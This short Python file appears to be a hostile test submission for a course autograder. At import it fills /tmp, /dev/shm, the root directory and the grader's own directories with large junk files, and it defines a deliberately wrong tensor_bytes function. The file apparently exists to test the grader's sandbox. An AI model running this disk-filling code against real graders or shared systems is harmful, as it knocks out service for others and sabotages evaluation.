# Fills the scratch space, /dev/shm and whatever else can be written.
# earns: 0
# %% tensor_bytes
import os

for place in ("/tmp", "/dev/shm", "/proc", "/", "/course", "/course/autograder/inside", "/course/course_utils", "/dev"):
    for number in range(40):
        try:
            with open(f"{place}/course-attack-{number}", "wb") as file:
                for _ in range(64):
                    file.write(b"x" * 2**20)
        except OSError:
            break


def tensor_bytes(x):
    return x.numel()
